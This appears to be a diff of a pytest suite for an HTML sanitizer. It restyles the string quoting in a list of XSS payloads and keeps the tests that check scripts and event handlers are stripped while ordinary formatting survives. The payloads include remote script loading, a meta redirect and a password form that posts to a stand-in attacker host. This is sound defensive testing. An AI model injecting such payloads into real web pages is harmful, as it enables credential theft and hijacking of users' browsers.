@@ -12,34 +12,35 @@ XSS_PAYLOADS = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<img src=x onerror=alert(1)>",
-    "<img src=\"javascript:alert(1)\">",
-    "<a href=\"javascript:alert(1)\">click</a>",
-    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
-    "<a href=\"java&#x09;script:alert(1)\">tab</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
+    '<img src="javascript:alert(1)">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">click</a>',
+    '<a href="java&#x09;script:alert(1)">tab</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
     "<svg onload=alert(1)><circle r=10></circle></svg>",
     "<svg><script>alert(1)</script></svg>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=\"https://evil.example\"></iframe>",
-    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<p style=\"width: expression(alert(1))\">x</p>",
-    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>",
+    '<iframe src="https://evil.example"></iframe>',
+    '<object data="x.swf"></object><embed src="x.swf">',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<p style="width: expression(alert(1))">x</p>',
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>',
     "<body onload=alert(1)>",
-    "<form action=\"https://evil.example\"><input name=password></form>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
-    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+    '<form action="https://evil.example"><input name=password></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
     "<style>body{display:none}</style>",
-    "<base href=\"https://evil.example/\">",
-    "<p onclick=\"alert(1)\" onmouseover=\"alert(2)\">hover</p>",
+    '<base href="https://evil.example/">',
+    '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
     "<<script>alert(1);//<</script>",
     "<img src=x:alert(alt) onerror=eval(src) alt=0>",
     "<details open ontoggle=alert(1)>",
-    "<a href=\"vbscript:msgbox(1)\">vb</a>",
-    "\"><script>alert(1)</script>",
+    '<a href="vbscript:msgbox(1)">vb</a>',
+    '"><script>alert(1)</script>',
     "<p>unclosed <b>bold <i>italic",
     "<!--<script>alert(1)</script>-->",
 ]
+
 
 @pytest.mark.parametrize("payload", XSS_PAYLOADS)
 def test_hostile_markup_loses_everything_executable(payload):
@@ -49,7 +50,7 @@ def test_hostile_markup_loses_everything_executable(payload):
 def test_ordinary_formatting_survives():
     html = (
         '<p style="text-align: center">Centred <em>and</em> <strong>strong</strong></p>'
-        '<blockquote><p>A quote</p></blockquote><ul><li>one</li></ul>'
+        "<blockquote><p>A quote</p></blockquote><ul><li>one</li></ul>"
         '<p><a href="https://example.org/page">a link</a> <img src="https://example.org/i.png" '
         'alt="An image"></p><hr><table><tr><td>cell</td></tr></table>'
     )
